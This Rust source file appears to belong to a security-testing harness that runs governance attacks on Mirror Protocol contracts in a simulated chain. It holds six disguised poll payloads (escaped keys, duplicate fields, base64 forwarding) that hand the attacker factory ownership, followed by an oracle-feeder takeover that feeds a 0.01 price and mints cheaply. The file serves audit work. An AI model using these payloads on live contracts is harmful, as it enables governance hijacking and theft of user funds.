//! Execute polls that give a contract another owner, in messages that do not look like it.

use cosmwasm_std::{Addr, Binary};
use mirror_protocol::factory;
use mirror_testing::Addresses;
use serde_json::json;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, UNIT};
use crate::attacks::polls::{self, Proposal, THIRD};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "execute poll in disguise",
    story:
        "Who owns a contract decides all that it does, so that to give it away takes as much as \
            a migration; the same under an escape, behind a pass_command, or beside fields that \
            its target does not know, so that whoever judges it sees something else.",
    run,
};

/// The contract that gets the message, and the message, which makes the attacker an owner.
type Disguise = fn(&Addresses, &Addr) -> (Addr, String);

const DISGUISES: [(Disguise, &str); 6] = [
    (
        |at, thief| {
            let text = format!(r#"{{"update_config":{{"owner":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "as it is",
    ),
    (
        |at, thief| {
            let text = format!(r#"{{"update\u005fconfig":{{"own\u0065r":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "with letters as escapes",
    ),
    (
        |at, thief| {
            let text = format!(
                r#"{{"update_config":{{"owner":"{thief}","pair_code_id":1,"pair_code_id":2}}}}"#
            );
            (at.factory.clone(), text)
        },
        "beside a field twice that only the pair factory knows",
    ),
    (
        |at, thief| {
            let text = format!(
                r#"{{"update_config":{{"spend_limit":[],"owner":"{thief}","spend_limit":{{}}}}}}"#
            );
            (at.factory.clone(), text)
        },
        "beside a field twice that nobody there knows",
    ),
    (
        |at, thief| {
            let text = format!(r#"{{"distribute":{{}},"update_config":{{"owner":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "as the second key of a message",
    ),
    (
        |at, thief| {
            let inner = format!(r#"{{"update_config":{{"owner":"{thief}"}}}}"#);
            let msg = Binary::from(inner.into_bytes()).to_base64();
            let oracle = &at.oracle;
            let text =
                format!(r#"{{"pass_command":{{"contract_addr":"{oracle}","msg":"{msg}"}}}}"#);
            (at.factory.clone(), text)
        },
        "for the oracle, passed on by the factory",
    ),
];

fn run() -> anyhow::Result<Findings> {
    let attempts = DISGUISES.map(|(disguise, how)| attempt(disguise, how));
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![],
    })
}

fn attempt(disguise: Disguise, how: &str) -> anyhow::Result<Attempt> {
    let mut trial = polls::governed_with_apple(THIRD)?;
    let (contract, text) = disguise(&trial.world.at, &trial.attacker);
    let proposal = Proposal::execute_raw(&contract, Binary::from(text.into_bytes()));
    polls::passes(&mut trial, "T-87", &proposal)?;
    uses(&mut trial)?;
    polls::leaves(&mut trial)?;
    trial.ends(format!(
        "with a third of the stake tried to be given the factory: {how}"
    ))
}

/// Whoever owns the factory or the oracle makes himself feeder, and mints for almost nothing.
fn uses(trial: &mut Trial) -> anyhow::Result<()> {
    let (at, token) = (trial.world.at.clone(), trial.world.token("mAAPL"));
    let register = json!({ "register_asset": {
        "asset_token": token, "feeder": trial.attacker,
    } });
    let pass = factory::ExecuteMsg::PassCommand {
        contract_addr: at.oracle.to_string(),
        msg: cosmwasm_std::to_json_binary(&register)?,
    };
    let by_factory = trial.tries("T-01", Transaction::new().calls(&at.factory, &pass))?;
    let directly = trial.tries("T-01", Transaction::new().calls(&at.oracle, &register))?;
    if by_factory.is_none() && directly.is_none() {
        return Ok(());
    }
    trial.world.chain.pass(6);
    let feed = Transaction::new().feeds(&at.oracle, &token, fixtures::price("0.01")?);
    trial.does(feed)?;
    fixtures::mints_and_sells(trial, "T-41", base(1_500 * UNIT), "mAAPL")
}
